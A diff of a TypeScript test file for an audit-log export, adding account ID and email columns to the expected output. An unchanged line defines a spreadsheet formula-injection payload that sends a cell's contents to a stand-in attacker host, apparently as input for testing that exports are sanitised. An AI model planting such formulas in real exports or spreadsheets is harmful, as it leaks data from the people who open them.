@@ -7,7 +7,7 @@ import { asBrowser, asScript, createTestAccount, createTestSite, type CreatedSit
 import { createReadOnlyKey, expectValidationError, listAllPages, ndjsonLines, withDaysAround, type AuditEvent } from '../helpers/log-export.js'
 import { buildTestApp, deployments, type TestApp } from '../helpers/test-app.js'
 
-const COLUMNS = ['id', 'createdAt', 'action', 'actorType', 'actorId', 'actorName', 'actorKeyPrefix', 'clientIp', 'userAgent', 'siteId', 'siteName', 'details']
+const COLUMNS = ['id', 'createdAt', 'action', 'actorType', 'actorId', 'actorName', 'actorKeyPrefix', 'clientIp', 'userAgent', 'siteId', 'siteName', 'details', 'actorAccountId', 'actorEmail']
 const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 /** More events than one batch of the export (500) holds, twice over. */
 const RECORDED = 1_200
@@ -27,6 +27,8 @@ const rowOf = (event: AuditEvent) =>
     event.site?.id ?? null,
     event.site?.name ?? null,
     JSON.stringify(event.details),
+    event.actor.accountId,
+    event.actor.email,
   ].map((cell) => (cell === null ? '' : cell))
 
 describe.each(deployments)('exports of the audit log on $name', ({ available, options }) => {
